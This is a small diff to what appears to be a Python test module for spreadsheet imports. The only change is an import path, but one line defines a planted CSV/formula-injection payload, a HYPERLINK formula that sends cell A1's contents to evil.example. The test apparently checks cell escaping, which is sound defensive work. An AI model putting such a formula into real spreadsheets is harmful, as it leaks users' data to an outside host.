@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 from invoices.models import ImportBatch, ImportKind, ImportRejection
 from outage_portal.spreadsheets import escape_cell
 from recovery.models import Discrepancy
-from tests.reissue_fixtures import make_gaps
+from tests.recovery.reissue.fixtures import make_gaps
 
 PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
